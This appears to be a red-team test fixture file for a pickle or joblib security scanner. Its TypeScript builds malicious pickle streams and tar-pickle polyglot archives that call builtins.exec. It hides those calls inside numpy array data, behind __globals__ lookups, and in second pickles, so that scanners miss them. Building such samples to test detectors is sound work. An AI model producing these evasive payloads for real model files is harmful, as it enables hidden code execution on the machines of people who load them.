import {
  ascii,
  build,
  bytes,
  call,
  dictOf,
  emptyTuple,
  get,
  global,
  int,
  join,
  newObject,
  none,
  type Part,
  pickle,
  pop,
  proto,
  put,
  reduce,
  setState,
  stackGlobal,
  stop,
  tuple2,
  unicode,
} from './assemble.ts';
import { type RedTeamSample, sample, tupleOf, writes } from './red-team-parts.ts';

function little(value: number): Part {
  return bytes(value & 255, (value >> 8) & 255, (value >> 16) & 255, (value >> 24) & 255);
}

function dtypeOf(code: string, size?: number): Part {
  const made = call(stackGlobal('numpy', 'dtype'), unicode(code), bytes(0x89), bytes(0x88));
  if (size === undefined) return made;
  return setState(made, tupleOf(int(3), unicode('|'), none, none, none, int(size), int(1), int(0)));
}

/** The entries of a `NumpyArrayWrapper`, as joblib writes them before the bytes of an array. */
function wrapped(shape: number, dtype: Part, ...more: (readonly [Part, Part])[]): Part {
  return dictOf(
    [unicode('subclass'), stackGlobal('numpy', 'ndarray')],
    [unicode('shape'), tupleOf(int(shape))],
    [unicode('order'), unicode('C')],
    [unicode('dtype'), dtype],
    [unicode('allow_mmap'), bytes(0x89)],
    ...more,
  );
}

const wrapper: Part = [stackGlobal('joblib.numpy_pickle', 'NumpyArrayWrapper'), emptyTuple, newObject];
const payload = pickle(call(global('builtins', 'exec'), unicode(writes)));

/** Opcodes that push nothing that matters, then bytes that only a reader who starts late takes for opcodes. */
function hidden(distance: number): Part {
  return [ascii('B'), little(distance + payload.length), new Uint8Array(distance).fill(0xff), payload, none];
}

/** `getattr(getattr(clone, '__globals__'), 'get')('__builtins__')`, and from there `exec`. */
const walk = join(
  get(0),
  tupleOf(
    [
      get(0),
      tupleOf([get(0), tupleOf(get(1), unicode('__globals__')), reduce], unicode('get')),
      reduce,
      tupleOf(unicode('__builtins__')),
      reduce,
    ],
    unicode('get'),
  ),
  reduce,
  tupleOf(unicode('exec')),
  reduce,
  tupleOf(unicode(writes)),
  reduce,
  stop,
);

export const streams: readonly RedTeamSample[] = [
  sample(
    'opcodes in array data use what was imported before',
    'pickle.load',
    pickle(
      proto(4),
      stackGlobal('builtins', 'getattr'),
      put(0),
      pop,
      stackGlobal('sklearn.base', 'clone'),
      put(1),
      pop,
      setState(wrapper, wrapped(walk.length, dtypeOf('u1'))),
      walk,
    ),
  ),
  sample(
    'a text type whose state makes it longer',
    'joblib.load',
    pickle(proto(4), setState(wrapper, wrapped(1, dtypeOf('S5', 105))), ascii('NNNNN'), hidden(95)),
  ),
  sample(
    'a wrapper that has been given an alignment before',
    'joblib.load',
    pickle(
      proto(4),
      [wrapper, put(7)],
      wrapped(1, dtypeOf('u1'), [unicode('numpy_array_alignment_bytes'), int(16)]),
      build,
      bytes(0),
      ascii('N'),
      pop,
      get(7),
      wrapped(5, dtypeOf('u1')),
      build,
      bytes(100, 0xff, 0xff, 0xff, 0xff),
      hidden(96),
    ),
  ),
  sample(
    'a wrapper with a second shape in its slots',
    'joblib.load',
    pickle(
      proto(4),
      setState(wrapper, [wrapped(5, dtypeOf('u1')), dictOf([unicode('shape'), tupleOf(int(105))]), tuple2]),
      ascii('NNNNN'),
      hidden(95),
    ),
  ),
];

function tarHeader(name: Uint8Array, size: number): Uint8Array {
  const block = new Uint8Array(512);
  block.set(name, 0);
  block.set(ascii('0000644\x000000000\x000000000\x00'), 100);
  block.set(ascii(`${size.toString(8).padStart(11, '0')}\x00`), 124);
  block.set(ascii('00000000000\x00'), 136);
  block.set(ascii('        0'), 148);
  block.set(ascii('ustar\x0000'), 257);
  const sum = block.reduce((total, byte) => total + byte, 0);
  block.set(ascii(`${sum.toString(8).padStart(6, '0')}\x00 `), 148);
  return block;
}

/** A tar archive of one member whose header and content are a pickle as well. */
function tarOf(name: Uint8Array, content: Uint8Array): Uint8Array {
  const padded = new Uint8Array(Math.ceil(content.length / 512) * 512 + 1024);
  padded.set(content);
  return join(tarHeader(name, content.length), padded);
}

/** A text that reaches from the name of the first member to its content. */
function toContent(skipped: number, ...before: Part[]): Uint8Array {
  const opening = join(...before);
  return join(opening, ascii('B'), little(512 + skipped - opening.length - 5));
}

export const polyglots: readonly RedTeamSample[] = [
  sample(
    'a tar archive that is a slow pickle',
    'pickle.load',
    tarOf(toContent(0), join(pop, ...Array.from({ length: 11_000 }, () => ascii('N0')), payload)),
  ),
  sample('a tar archive that imports', 'pickle.load', tarOf(ascii('cthis\ns\n'), ascii('x'))),
  sample(
    'a tar archive whose second pickle calls',
    'pickle.load twice',
    tarOf(toContent(16, none, stop), join(bytes(...new Array<number>(16).fill(0xff)), payload)),
  ),
];
